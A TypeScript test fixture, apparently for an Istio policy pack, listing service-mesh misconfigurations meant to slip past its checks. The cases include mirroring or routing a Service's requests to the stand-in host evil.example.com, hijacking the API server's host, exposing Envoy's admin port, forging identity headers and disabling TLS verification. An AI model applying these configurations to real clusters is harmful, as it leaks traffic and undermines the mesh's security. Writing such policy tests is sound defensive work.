import {
  type Case,
  caseOf as way,
  destinationRule,
  entry,
  insertedFilter,
  gatewayApi,
  object,
  parentRefs,
  patch,
  to,
  type Tree,
  typed,
  virtualService,
} from "./object";

const external = entry({
  hosts: ["evil.example.com"],
  resolution: "DNS",
  ports: [{ number: 443, name: "tls", protocol: "TLS" }],
});
const ejecting = (errors: Tree) =>
  destinationRule(
    "cart",
    {},
    { outlierDetection: { consecutive5xxErrors: 0, maxEjectionPercent: 50, ...errors } },
  );
const localLimit = "type.googleapis.com/envoy.extensions.filters.http.local_ratelimit.v3.LocalRateLimit";

/** Ways past the pack by routes, destinations, gateways and filters. */
export const trafficWays: readonly Case[] = [
  way(
    "ejection by a number of local failures that is never reached",
    ejecting({ splitExternalLocalOriginErrors: true, consecutiveLocalOriginFailures: 4294967295 }),
  ),
  way("ejection by local failures that are not counted", ejecting({ consecutiveLocalOriginFailures: 5 })),
  way(
    "copies of the mesh's requests to an external host",
    external,
    virtualService({ hosts: ["cart"], http: [to("cart", { mirror: { host: "evil.example.com" } })] }),
  ),
  way(
    "copies of requests to an external host in a list",
    external,
    virtualService({
      hosts: ["cart"],
      http: [to("cart", { mirrors: [{ destination: { host: "evil.example.com" } }] })],
    }),
  ),
  way(
    "copies of a gateway's requests to an external host",
    external,
    virtualService({
      hosts: ["a.example.com"],
      gateways: ["ingress/public"],
      http: [to("cart", { mirror: { host: "evil.example.com" } })],
    }),
  ),
  way(
    "a Service's host routed out of the mesh",
    external,
    virtualService({ hosts: ["cart"], http: [to("evil.example.com")] }),
  ),
  way(
    "a Service's host routed out of the mesh with a small weight",
    external,
    virtualService({
      hosts: ["cart"],
      http: [
        {
          ...to("cart"),
          route: [
            { destination: { host: "cart" }, weight: 99 },
            { destination: { host: "evil.example.com" }, weight: 1 },
          ],
        },
      ],
    }),
  ),
  way(
    "connections of a Service routed out of the mesh",
    external,
    virtualService({ hosts: ["cart"], tcp: [{ route: [{ destination: { host: "evil.example.com" } }] }] }),
  ),
  way(
    "an address taken over",
    virtualService({ hosts: ["10.96.0.10"], tcp: [{ route: [{ destination: { host: "cart" } }] }] }),
  ),
  way(
    "a wildcard of another namespace's hosts",
    virtualService({ hosts: ["*.bank.svc.cluster.local"], http: [to("cart")] }),
  ),
  way("every host of the cluster", virtualService({ hosts: ["*.svc.cluster.local"], http: [to("cart")] })),
  way(
    "a header of the identity in a GRPCRoute",
    gatewayApi("GRPCRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [
        {
          filters: [
            {
              type: "RequestHeaderModifier",
              requestHeaderModifier: { set: [{ name: "x-forwarded-client-cert", value: "x" }] },
            },
          ],
          backendRefs: [{ name: "cart", port: 80 }],
        },
      ],
    }),
  ),
  way(
    "two GRPCRoutes of two namespaces for one method",
    gatewayApi("GRPCRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [
        {
          matches: [{ method: { service: "pay.Pay", method: "Card" } }],
          backendRefs: [{ name: "cart", port: 80 }],
        },
      ],
    }),
    gatewayApi(
      "GRPCRoute",
      "b",
      {
        parentRefs,
        hostnames: ["a.example.com"],
        rules: [{ matches: [{ method: { service: "pay.Pay" } }], backendRefs: [{ name: "pay", port: 80 }] }],
      },
      { namespace: "bank" },
    ),
  ),
  way(
    "a TLSRoute for another namespace's name",
    gatewayApi("TLSRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [{ backendRefs: [{ name: "cart", port: 80 }] }],
    }),
    gatewayApi(
      "TLSRoute",
      "b",
      { parentRefs, hostnames: ["a.example.com"], rules: [{ backendRefs: [{ name: "pay", port: 80 }] }] },
      { namespace: "bank" },
    ),
  ),
  way(
    "a TLSRoute to another namespace without a grant",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi(
      "TLSRoute",
      "a",
      {
        parentRefs,
        hostnames: ["a.example.com"],
        rules: [{ backendRefs: [{ name: "pay", namespace: "bank", port: 443 }] }],
      },
      {},
      "v1alpha2",
    ),
  ),
  way(
    "a TCPRoute to another namespace without a grant",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi(
      "TCPRoute",
      "a",
      { parentRefs, rules: [{ backendRefs: [{ name: "pay", namespace: "bank", port: 443 }] }] },
      {},
      "v1alpha2",
    ),
  ),
  way(
    "a grant for another kind",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi("HTTPRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [{ backendRefs: [{ name: "pay", namespace: "bank", port: 80 }], timeouts: { request: "5s" } }],
    }),
    gatewayApi(
      "ReferenceGrant",
      "b",
      {
        from: [{ group: "gateway.networking.k8s.io", kind: "HTTPRoute", namespace: "shop" }],
        to: [{ group: "", kind: "Secret" }],
      },
      { namespace: "bank" },
      "v1beta1",
    ),
  ),
  way(
    "a grant for another Service",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi("HTTPRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [{ backendRefs: [{ name: "pay", namespace: "bank", port: 80 }], timeouts: { request: "5s" } }],
    }),
    gatewayApi(
      "ReferenceGrant",
      "b",
      {
        from: [{ group: "gateway.networking.k8s.io", kind: "HTTPRoute", namespace: "shop" }],
        to: [{ group: "", kind: "Service", name: "ledger" }],
      },
      { namespace: "bank" },
      "v1beta1",
    ),
  ),
  way(
    "a copy of an HTTPRoute's requests in another namespace without a grant",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi("HTTPRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [
        {
          backendRefs: [{ name: "cart", port: 80 }],
          filters: [
            {
              type: "RequestMirror",
              requestMirror: { backendRef: { name: "spy", namespace: "bank", port: 80 } },
            },
          ],
          timeouts: { request: "5s" },
        },
      ],
    }),
  ),
  way(
    "a certificate of another namespace without a grant",
    object("Namespace", "bank", {}, { labels: { "istio-injection": "enabled" } }),
    gatewayApi("Gateway", "x", {
      gatewayClassName: "istio",
      listeners: [
        {
          name: "https",
          port: 443,
          protocol: "HTTPS",
          tls: { certificateRefs: [{ name: "bank", namespace: "bank" }] },
        },
      ],
    }),
  ),
  way(
    "plaintext to a Service of the mesh by a BackendTLSPolicy",
    gatewayApi("BackendTLSPolicy", "cart", {
      targetRefs: [{ group: "", kind: "Service", name: "cart" }],
      validation: { hostname: "cart.example.com", wellKnownCACertificates: "System" },
    }),
  ),
  way(
    "a plaintext listener in a ListenerSet",
    typed("gateway.networking.x-k8s.io/v1alpha1", "XListenerSet", "x", {
      spec: {
        parentRef: { name: "public", namespace: "ingress" },
        listeners: [{ name: "http", port: 80, protocol: "HTTP" }],
      },
    }),
  ),
  way(
    "requests without a time limit in an HTTPRoute",
    gatewayApi("HTTPRoute", "a", {
      parentRefs,
      hostnames: ["a.example.com"],
      rules: [{ backendRefs: [{ name: "cart", port: 80 }], timeouts: { request: "0s" } }],
    }),
  ),
  way(
    "a Gateway for every proxy",
    object("Gateway", "x", {
      spec: {
        selector: {},
        servers: [
          {
            port: { number: 443, name: "https", protocol: "HTTPS" },
            hosts: ["a.example.com"],
            tls: { mode: "SIMPLE", credentialName: "a" },
          },
        ],
      },
    }),
  ),
  way(
    "every service behind a passthrough of the mesh's TLS",
    object("Gateway", "x", {
      spec: {
        selector: { istio: "ingress" },
        servers: [
          {
            port: { number: 443, name: "tls", protocol: "TLS" },
            hosts: ["*"],
            tls: { mode: "AUTO_PASSTHROUGH" },
          },
        ],
      },
    }),
  ),
  way(
    "an external host whose certificate is not verified",
    external,
    destinationRule(
      "evil",
      { host: "evil.example.com" },
      { tls: { mode: "SIMPLE", insecureSkipVerify: true } },
    ),
  ),
  way(
    "a rule of every host in the root namespace",
    destinationRule("x", { host: "*" }, { tls: { mode: "DISABLE" } }, { namespace: "istio-system" }),
  ),
  way(
    "a subset of every host",
    destinationRule("x", {
      host: "*.cluster.local",
      subsets: [{ name: "a", labels: { v: "a" }, trafficPolicy: { tls: { mode: "SIMPLE" } } }],
    }),
  ),
  way(
    "a rule of selected clients",
    destinationRule(
      "x",
      { host: "cart", workloadSelector: { matchLabels: { app: "web" } } },
      { tls: { mode: "DISABLE" } },
    ),
  ),
  way(
    "endless connections by a port's own limits",
    destinationRule(
      "cart",
      { host: "cart" },
      {
        portLevelSettings: [
          { port: { number: 80 }, connectionPool: { tcp: { maxConnections: 4294967295 } } },
        ],
      },
    ),
  ),
  way(
    "all endpoints ejected",
    destinationRule(
      "cart",
      { host: "cart" },
      {
        outlierDetection: {
          consecutive5xxErrors: 1,
          interval: "1s",
          baseEjectionTime: "30s",
          maxEjectionPercent: 100,
        },
      },
    ),
  ),
  way(
    "the proxy's own administration by a Sidecar",
    object("Sidecar", "cart", {
      spec: {
        workloadSelector: { labels: { app: "cart" } },
        ingress: [
          { port: { number: 8080, name: "http", protocol: "HTTP" }, defaultEndpoint: "127.0.0.1:15000" },
        ],
      },
    }),
  ),
  way(
    "TLS of its own at a Sidecar's listener",
    object("Sidecar", "cart", {
      spec: {
        workloadSelector: { labels: { app: "cart" } },
        ingress: [
          {
            port: { number: 8080, name: "https", protocol: "HTTPS" },
            defaultEndpoint: "127.0.0.1:8080",
            tls: { mode: "SIMPLE", serverCertificate: "a", privateKey: "b" },
          },
        ],
      },
    }),
  ),
  way(
    "an allowed filter with a second configuration",
    insertedFilter({
      name: "limit",
      typed_config: { "@type": localLimit },
      config_discovery: { type_urls: ["type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua"] },
    }),
  ),
  way(
    "an allowed filter that forges headers",
    insertedFilter({
      name: "limit",
      typed_config: {
        "@type": localLimit,
        request_headers_to_add_when_not_enforced: [
          { header: { key: "x-forwarded-client-cert", value: "x" } },
        ],
      },
    }),
  ),
  way(
    "an allowed filter in a listener",
    insertedFilter({ name: "limit", typed_config: { "@type": localLimit } }, { applyTo: "LISTENER_FILTER" }),
  ),
  way(
    "a merged filter",
    insertedFilter(
      { typed_config: { "@type": localLimit } },
      { patch: { operation: "MERGE", value: { typed_config: { "@type": localLimit } } } },
    ),
  ),
  way(
    "a filter of every gateway's chain",
    object(
      "EnvoyFilter",
      "x",
      {
        spec: {
          priority: 1,
          configPatches: [
            {
              applyTo: "FILTER_CHAIN",
              match: { context: "GATEWAY", proxy: { proxyVersion: "^1\\.31.*" } },
              patch: {
                operation: "MERGE",
                value: { transport_socket: { name: "envoy.transport_sockets.raw_buffer" } },
              },
            },
          ],
        },
      },
      { namespace: "istio-system" },
    ),
  ),
  way(
    "an extension of inline code",
    typed("extensions.istio.io/v1alpha1", "TrafficExtension", "x", {
      spec: { lua: { inlineCode: "function envoy_on_request(h) h:headers():replace('x','y') end" } },
    }),
  ),
  way(
    "a Wasm module with the digest in its tag",
    object("WasmPlugin", "x", { spec: { url: "oci://registry.example.com/a:sha256-0000" } }),
  ),
  way(
    "a Wasm module that fails open by a patch",
    patch("WasmPlugin", "x", { spec: { failStrategy: "FAIL_OPEN" } }),
  ),
  way(
    "an entry of the API server's host",
    entry({
      hosts: ["kubernetes.default.svc"],
      resolution: "STATIC",
      endpoints: [{ address: "203.0.113.7" }],
      ports: [{ number: 443, name: "tls", protocol: "TLS" }],
    }),
  ),
  way(
    "an entry for addresses of the whole internet in parts",
    entry({
      hosts: ["x.example.com"],
      addresses: ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/1"],
      resolution: "NONE",
      ports: [{ number: 443, name: "tls", protocol: "TLS" }],
    }),
  ),
  way(
    "a Sidecar's mode by a patch of another stack",
    patch("Sidecar", "default", { spec: { outboundTrafficPolicy: { mode: "ALLOW_ANY" } } }),
  ),
];
